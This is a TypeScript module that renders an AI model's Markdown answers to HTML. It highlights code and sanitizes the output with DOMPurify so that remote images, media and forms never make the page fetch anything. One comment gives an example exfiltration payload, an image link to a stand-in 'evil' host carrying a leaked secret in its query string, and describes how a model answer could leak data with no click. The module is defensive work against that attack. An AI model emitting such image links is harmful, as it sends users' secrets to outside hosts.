import DOMPurify from 'dompurify';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import css from 'highlight.js/lib/languages/css';
import diff from 'highlight.js/lib/languages/diff';
import go from 'highlight.js/lib/languages/go';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';
import { Marked, type Token, type Tokens } from 'marked';

const languages = { bash, css, diff, go, javascript, json, python, rust, typescript, xml, yaml };
for (const [name, lang] of Object.entries(languages)) hljs.registerLanguage(name, lang);
hljs.registerAliases(['sh', 'shell', 'zsh', 'console'], { languageName: 'bash' });
hljs.registerAliases(['js', 'jsx', 'mjs'], { languageName: 'javascript' });
hljs.registerAliases(['ts', 'tsx'], { languageName: 'typescript' });
hljs.registerAliases(['html', 'svg'], { languageName: 'xml' });
hljs.registerAliases(['py'], { languageName: 'python' });
hljs.registerAliases(['rs'], { languageName: 'rust' });
hljs.registerAliases(['yml', 'toml'], { languageName: 'yaml' });

const escapeHtml = (s: string): string => s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** Highlights `code` as `lang` when known; otherwise escapes it. Returns HTML. */
export function highlightCode(code: string, lang: string | undefined): string {
  const name = lang?.trim().split(/\s+/)[0]?.toLowerCase();
  if (name && hljs.getLanguage(name)) return hljs.highlight(code, { language: name, ignoreIllegals: true }).value;
  return escapeHtml(code);
}

const marked = new Marked({
  gfm: true,
  renderer: {
    code({ text, lang }: Tokens.Code): string {
      const label = lang ? `<span class="code-lang">${escapeHtml(lang.split(/\s+/)[0] ?? '')}</span>` : '';
      return `<pre class="code">${label}<code class="hljs">${highlightCode(text, lang)}</code></pre>\n`;
    },
  },
});

export interface MarkdownBlock {
  /** The block's offset in the source: a stable key while text is appended. */
  key: string;
  start: number;
  raw: string;
  token: Token;
}

export interface ParsedMarkdown {
  src: string;
  blocks: MarkdownBlock[];
}

function lexFrom(src: string, start: number): MarkdownBlock[] {
  const blocks: MarkdownBlock[] = [];
  let at = start;
  for (const token of marked.lexer(src.slice(start))) {
    if (token.type !== 'space') blocks.push({ key: String(at), start: at, raw: token.raw, token });
    at += token.raw.length;
  }
  return blocks;
}

/**
 * Splits Markdown into top-level blocks. While an answer streams, text is only appended: the blocks
 * before the last two cannot change, so only the tail is lexed again and only its blocks re-render
 * (and are sanitized again), instead of the whole message on every frame.
 */
export function markdownBlocks(src: string, prev: ParsedMarkdown | null = null): ParsedMarkdown {
  if (prev && prev.blocks.length > 2 && src.startsWith(prev.src)) {
    const keep = prev.blocks.slice(0, -2);
    return { src, blocks: keep.concat(lexFrom(src, prev.blocks[prev.blocks.length - 2]!.start)) };
  }
  return { src, blocks: lexFrom(src, 0) };
}

/**
 * Elements that make the browser fetch, frame or submit something as soon as they render: a model
 * answer must never make the page call out (`![x](https://evil/p.png?leak=SECRET)` is zero-click
 * exfiltration). Images get a visible placeholder instead (below); the rest is dropped. The page CSP
 * (server/security-headers.ts) is the second wall.
 */
const FORBID_TAGS = ['style', 'link', 'meta', 'base', 'form', 'button', 'input', 'iframe', 'frame', 'frameset', 'object', 'embed', 'portal', 'video', 'audio', 'source', 'track', 'picture'];
/** Attributes that fetch (`srcset`, `poster`, `background`, `style` with url(), `ping`) or submit. */
const FORBID_ATTR = ['style', 'srcset', 'sizes', 'poster', 'background', 'ping', 'action', 'formaction', 'lowsrc', 'dynsrc', 'longdesc', 'imagesrcset', 'imagesizes', 'xlink:href'];
const SANITIZE_CONFIG = { USE_PROFILES: { html: true }, FORBID_TAGS, FORBID_ATTR };

const httpUrl = (src: string, base: string): URL | null => {
  try {
    const u = new URL(src, base);
    return u.protocol === 'http:' || u.protocol === 'https:' ? u : null;
  } catch {
    return null;
  }
};

/** An image the browser may load: inline `data:image/…`, or our own origin (same scheme, host and port). */
export function imageSourceAllowed(src: string, pageUrl: string): boolean {
  if (/^data:image\//i.test(src.trim())) return true;
  const u = httpUrl(src, pageUrl);
  return u !== null && u.origin === new URL(pageUrl).origin;
}

const MAX_SHOWN_URL = 500;

/**
 * What a remote image (or video, audio) shows instead: its URL, as a link that opens in a new tab
 * without opener or referrer, so nothing is fetched unless the user asks for it. Built in the
 * sanitizer's inert document; only http(s) URLs become links.
 */
function remotePlaceholder(doc: Document, kind: string, src: string, alt: string, insideLink = false): HTMLElement {
  // Inside a link (a badge), a nested link would not survive the HTML parser: plain text, the outer link stays.
  const url = insideLink ? null : httpUrl(src, window.location.href);
  const el = doc.createElement(url ? 'a' : 'span');
  el.className = 'md-remote-media';
  if (url) {
    el.setAttribute('href', url.href);
    el.setAttribute('target', '_blank');
    el.setAttribute('rel', 'noopener noreferrer nofollow');
  }
  el.setAttribute('title', `Remote ${kind.toLowerCase()} not loaded: answers never fetch from other sites.${url ? ' Click to open it in a new tab.' : ''}`);
  const shown = url?.href ?? httpUrl(src, window.location.href)?.href ?? src;
  const label = alt.trim() ? `${kind} not loaded: ${alt.trim()}` : `${kind} not loaded`;
  el.textContent = `[${label}] ${shown.length > MAX_SHOWN_URL ? `${shown.slice(0, MAX_SHOWN_URL)}…` : shown}`;
  return el;
}

const purify = typeof window === 'undefined' ? null : DOMPurify(window);
if (purify) {
  // <video>/<audio> are dropped whole (with their <source>s); leave a placeholder naming what they wanted.
  purify.addHook('uponSanitizeElement', (node, data) => {
    if ((data.tagName !== 'video' && data.tagName !== 'audio') || node.nodeType !== 1) return;
    const el = node as Element;
    const kind = data.tagName === 'video' ? 'Video' : 'Audio';
    const urls = [el.getAttribute('src'), el.getAttribute('poster'), ...Array.from(el.querySelectorAll('source[src]'), (s) => s.getAttribute('src'))];
    for (const src of new Set(urls.filter((u): u is string => !!u && u.trim() !== ''))) {
      el.parentNode?.insertBefore(remotePlaceholder(el.ownerDocument, kind, src, ''), el);
      el.parentNode?.insertBefore(el.ownerDocument.createTextNode(' '), el);
    }
  });
  purify.addHook('afterSanitizeAttributes', (node) => {
    // Links from a model open in a new tab and never get the opener.
    if (node.tagName === 'A') {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer nofollow');
      return;
    }
    if (node.tagName === 'IMG') {
      const src = node.getAttribute('src') ?? '';
      if (src.trim() !== '' && imageSourceAllowed(src, window.location.href)) return;
      if (src.trim() === '') return void node.remove();
      node.replaceWith(remotePlaceholder(node.ownerDocument, 'Image', src, node.getAttribute('alt') ?? '', node.closest('a') !== null));
      return;
    }
    // Belt and braces: nothing but a vetted <img> keeps a src.
    if (node.hasAttribute('src')) node.removeAttribute('src');
  });
}

/** One block as sanitized HTML. Without a DOM (server render) only escaped text is returned. */
export function renderBlock(block: MarkdownBlock): string {
  if (!purify) return `<p>${escapeHtml(block.raw)}</p>`;
  const html = marked.parser([block.token]);
  return purify.sanitize(html, SANITIZE_CONFIG);
}
